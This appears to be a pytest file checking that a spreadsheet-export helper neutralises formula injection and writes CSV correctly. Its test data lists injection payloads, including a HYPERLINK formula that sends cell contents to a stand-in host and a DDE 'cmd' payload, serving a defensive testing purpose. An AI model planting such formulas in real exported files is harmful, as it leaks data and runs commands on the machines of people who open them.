"""A file for spreadsheets in which nothing runs."""

import csv
import io

import pytest

from answerable.core.spreadsheets import csv_lines, harmless

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1",
    "\r=1", " =1", "\u00a0=1", "\uff1d1", "\n=1",
)  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_looks_like_a_formula_is_text(attack):
    assert harmless(attack) == f"'{attack}"


@pytest.mark.parametrize("cell", ["Elif Kaya", "", "a=b", "№ 5", 7, -3, 1.5])
def test_everything_else_stays_as_it_is(cell):
    assert harmless(cell) == cell


def test_lines_come_one_by_one_and_read_back_whole():
    rows = ([number, 'a "word", or two\nlines', None] for number in range(3))
    lines = csv_lines(["Number", "Words", "Nothing"], rows)
    assert next(lines) == "\ufeffNumber,Words,Nothing\r\n"
    read = list(csv.reader(io.StringIO("".join(lines))))
    assert read[2] == ["2", 'a "word", or two\nlines', ""]
